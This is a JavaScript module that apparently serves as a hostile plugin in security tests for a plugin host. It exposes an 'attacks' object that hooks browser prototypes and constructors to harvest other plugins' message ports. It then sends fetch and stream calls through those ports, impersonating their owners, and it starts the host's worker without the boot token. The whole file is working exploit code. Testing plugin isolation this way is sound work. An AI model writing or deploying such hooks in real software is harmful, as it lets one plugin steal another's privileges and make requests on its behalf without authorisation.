// Looks for message ports: whoever holds the port of a plugin can call as that plugin.
import { createElement as h } from 'react';

const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf, construct } = Reflect;
const ports = new Set();
const isPort = (value) => value instanceof MessagePort || value instanceof Worker;

/** Keeps every port in a value, a few levels deep. */
function dig(value, depth = 0) {
  if (isPort(value)) ports.add(value);
  if (typeof value !== 'object' || value === null || depth > 4) return;
  for (const key of ownKeys(value)) {
    const found = getOwnPropertyDescriptor(value, key);
    if (found !== undefined && 'value' in found) dig(found.value, depth + 1);
  }
}

let busy = false;
/** Keeps what one call was given and returned. What this itself calls is not recorded. */
function record(self, given, result) {
  if (busy) return;
  busy = true;
  try {
    look(self, given, result);
  } catch {
    // Some getters refuse some receivers.
  } finally {
    busy = false;
  }
}

function look(self, given, result) {
  dig(self);
  dig(given);
  dig(result);
  for (const event of [self, ...given]) {
    if (!(event instanceof Event)) continue;
    for (const key of ['target', 'currentTarget', 'srcElement', 'ports', 'data', 'source']) dig(event[key]);
  }
}

function wrap(target, keys = ownKeys(target)) {
  for (const key of keys) {
    const descriptor = getOwnPropertyDescriptor(target, key);
    if (descriptor === undefined || key === 'constructor') continue;
    for (const part of ['value', 'get', 'set']) {
      const real = descriptor[part];
      if (typeof real !== 'function') continue;
      descriptor[part] = function (...given) {
        const result = apply(real, this, given);
        record(this, given, result);
        return result;
      };
    }
    try {
      defineProperty(target, key, descriptor);
    } catch {}
  }
}

/** Replaces a constructor on the page, so that what it makes is seen. */
function wrapMaker(name) {
  const real = globalThis[name];
  globalThis[name] = new Proxy(real, {
    construct: (_, given) => {
      const made = construct(real, given);
      record(made, given, made);
      return made;
    },
  });
}

const attacks = {
  patch: () => {
    for (const name of ['MessagePort', 'MessageEvent', 'MessageChannel', 'Worker', 'EventTarget', 'Event']) {
      wrap(globalThis[name].prototype);
    }
    wrap(getPrototypeOf(MessagePort.prototype));
    wrap(Array.prototype, ['push', 'map', 'concat', 'slice', Symbol.iterator]);
    wrap(Map.prototype);
    wrap(Promise.prototype);
    for (const name of ['MessageChannel', 'Worker', 'ReadableStream', 'Response', 'Headers', 'AbortController'])
      wrapMaker(name);
    globalThis.structuredClone = (value) => record(null, [value], null);
  },
  /** Calls through every port that was found; how many there were. */
  use: async ({ target }) => {
    let id = 4_000_000_000;
    for (const port of ports) {
      for (const [address, name] of [
        [target, 'fetch'],
        [`${target}-2`, 'stream'],
      ]) {
        port.postMessage(['call', id++, name, { address, method: 'GET', headers: [], more: {} }]);
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return ports.size;
  },
  /** Another gate, from the worker's own module, without the boot token. */
  worker: async ({ target }) => {
    const address = performance.getEntriesByType('resource').find(({ name }) => name.includes('/assets/worker-'))?.name;
    const { port1, port2 } = new MessageChannel();
    const answers = [];
    port1.onmessage = ({ data }) => answers.push(data);
    const made = new Worker(address ?? `${location.origin}/assets/worker.js`, { type: 'module' });
    const options = { hostRoutes: [], experienceVersion: null, events: false, bootToken: null, http1: true };
    made.postMessage({ options, port: port2 }, [port2]);
    port1.postMessage(['call', 1, 'start']);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    port1.postMessage(['call', 2, 'fetch', { address: target, method: 'GET', headers: [], more: {} }]);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return answers.length;
  },
};

export default () => {
  globalThis.attack = (name, argument) => attacks[name](argument);
  return {
    routes: {
      Page: ({ navigate }) => {
        globalThis.go = navigate;
        return h('div', { 'data-plugin-page': 'porter' });
      },
    },
  };
};
